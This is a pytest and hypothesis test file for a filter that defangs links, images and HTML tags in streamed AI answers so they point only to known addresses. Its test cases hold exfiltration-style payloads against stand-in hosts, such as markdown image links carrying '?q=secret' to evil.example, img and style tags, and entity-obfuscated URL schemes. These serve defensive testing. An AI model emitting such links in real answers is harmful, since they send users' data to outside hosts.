"""Where an answer may lead."""

import re
from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb_search.runs import addresses
from kb_search.runs.addresses import AddressStreamFilter, find_addresses, neutralize_addresses

KNOWN = find_addresses(
    ["See [the site](https://known.example/a?b=c), or www.known.example.", '"https://known.example/q=",']
)
TAG_WITH_ATTRIBUTES = re.compile(r"<(?:style\b|[a-z][^>]*=)")
REFERENCE_TO_A_COLON = re.compile(r"&(?:#58(?![0-9])|#x3a(?![0-9a-f])|colon;)")
LINK = re.compile(r"!?\[[^\]]*\]\(|\]:")


@dataclass
class CountingPattern:
    """Pattern that notes how many characters it was given each time."""

    pattern: re.Pattern[str]
    read: list[int]

    def search(self, text: str, *place: int) -> re.Match[str] | None:
        self.read.append(len(text))
        return self.pattern.search(text, *place)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "![x] (https[:]//evil.example/?q=secret)"),
        ("[x](HTTP:evil.example/secret) and", "[x] (HTTP[:]evil.example/secret) and"),
        ("![x][r]\n\n[r]: &#104;ttps://evil.example/secret", "![x][r]\n\n[r] : &amp;#104;ttps://evil.example/secret"),
        ("![x](//evil.example/secret)", "![x] (//evil.example/secret)"),
        ("<https://evil.example/secret>", "<https[:]//evil.example/secret>"),
        ("so www.evil.example/secret.", "so www[.]evil.example/secret."),
        # Markdown drops the backslash, and some programs look for addresses only then.
        (r"https\://evil.example and www\.evil.example", "https[:]//evil.example and www[.]evil.example"),
        ("<smb://evil.example/secret> <mailto:a@evil>", "< smb://evil.example/secret> < mailto:a@evil>"),
        ("a <b: c> <ftp[:]//evil.example>", "a <b: c> <ftp[:]//evil.example>"),
        # What stands behind a known address could spell something.
        ("**https://known.example/a?b=c/).**", "**https://known.example/a?b=c/).**"),
        ("https://known.example/a?b=c/;/;;/", "https[:]//known.example/a?b=c/;/;;/"),
        # What HTML would make an address of.
        ("https&#58;//evil.example", "https&amp;#58;//evil.example"),
        ("https&#x0003A//evil.example", "https&amp;#x0003A//evil.example"),
        ("https&colon;&sol;/evil.example", "https&amp;colon;&amp;sol;/evil.example"),
        ("ht&Tab;tps&#0000058;//evil", "ht&amp;Tab;tps&amp;#0000058;//evil"),
        ("a &lt; b &amp; c&nbsp;&#8364; &colon d", "a &lt; b &amp; c&nbsp;&#8364; &colon d"),
        ("&#" + "9" * 5_000 + ";", "&#" + "9" * 5_000 + ";"),
        ('<img src="//evil/?q=secret">', '< img src="//evil/?q=secret">'),
        ("<IMG\nalt='>' src=\\\\evil\\x", "< IMG\nalt='>' src=\\\\evil\\x"),
        ("<img <b\nsrc=//evil>", "< img < b\nsrc=//evil>"),
        ("<img<a <i>src=1", "<img<a <i>src=1"),
        ("<style>@import url(//evil/)</style>", "< style>@import url(//evil/)</style>"),
        ("<a/href=ht\ntps://evil>", "< a/href=ht\ntps://evil>"),
        ('<a href="https://known.example/a?b=c">', '< a href="https://known.example/a?b=c">'),
        ("list<int> a = b < c; <b>so</b>", "list<int> a = b < c; <b>so</b>"),
        # Only what stands there as a whole is known.
        ("https://known.example/q=secret", "https[:]//known.example/q=secret"),
        ('https://known.example/q="secret', 'https[:]//known.example/q="secret'),
        ("https://known.example/q=\u00a0secret", "https[:]//known.example/q=\u00a0secret"),
        ("https://other.example(https://evil.example/", "https[:]//other.example(https[:]//evil.example/"),
        # Nothing is loaded, known or not, and by choosing among many nothing is told.
        ("![x](https://known.example/a?b=c)", "![x] (https://known.example/a?b=c)"),
        ("[x](https://known.example/a?b=c).", "[x] (https://known.example/a?b=c)."),
        (
            "**https://known.example/a?b=c**, (www.known.example)",
            "**https://known.example/a?b=c**, (www.known.example)",
        ),
        ("So [1], or [2]; `rows[1]` and vec![0].", "So [1], or [2]; `rows[1]` and vec![0]."),
    ],
)
def test_an_answer_links_only_to_known_addresses_and_shows_no_images(written: str, shown: str) -> None:
    assert neutralize_addresses(written, KNOWN) == shown
    for size in (1, 4):
        stream = AddressStreamFilter(KNOWN)
        pieces = [written[start : start + size] for start in range(0, len(written), size)]
        assert "".join([*(stream.feed(piece) for piece in pieces), stream.end()]) == shown, "also if it is streamed"


PIECES = st.lists(
    st.sampled_from(
        ["![x]", "(", ")", "]", ":", "[", "h", "tt", "ps", "http", "s://", "www", ".", "evil.example", " ", "\n"]
    )
    | st.sampled_from(["https://known.example/a?b=c", "known.example"])
    | st.sampled_from(
        [
            "<",
            ">",
            "=",
            "a",
            "style",
            "&",
            "#",
            "58",
            "x3a",
            ";",
            "colon",
            "&#58;",
            "<img src=",
            "&colon;",
            "\\",
            "/",
            "<smb:",
        ]
    )
)


@given(PIECES)
def test_pieces_come_to_the_same_as_the_whole_and_hold_no_link(pieces: list[str]) -> None:
    stream = AddressStreamFilter(KNOWN)
    shown = "".join([*(stream.feed(piece) for piece in pieces), stream.end()])
    assert shown == neutralize_addresses("".join(pieces), KNOWN)
    assert LINK.search(shown) is None
    assert TAG_WITH_ATTRIBUTES.search(shown) is None
    assert REFERENCE_TO_A_COLON.search(shown) is None
    assert neutralize_addresses(shown, KNOWN) == shown


@pytest.mark.parametrize(
    ("first", "part"),
    [
        ("<a", " b"),
        ("<a", " h"),
        ("<a https:", "="),
        ("", "<"),
        ("&#", "0"),
        ("&", "a"),
        ("https:", "x"),
        ("", "www."),
        ("", "&#0"),
        ("", "<a "),
        ("", "<a"),
        ("<a https:=", "<"),
        ("", "]"),
    ],
)
def test_an_answer_in_many_pieces_is_read_no_more_often_than_it_grows(
    first: str, part: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def characters_read(pieces: int) -> int:
        read = list[int]()
        with monkeypatch.context() as patched:
            # Each piece that is not merely kept is put together with what was kept, and searched once for its end.
            patched.setattr(addresses, "_UNFINISHED", CountingPattern(addresses._UNFINISHED, read))
            stream = AddressStreamFilter(KNOWN)
            stream.feed(first)
            for _ in range(pieces):
                stream.feed(part)
            stream.end()
        return sum(read)

    assert characters_read(16_000) <= 8 * characters_read(2_000) + 1_000
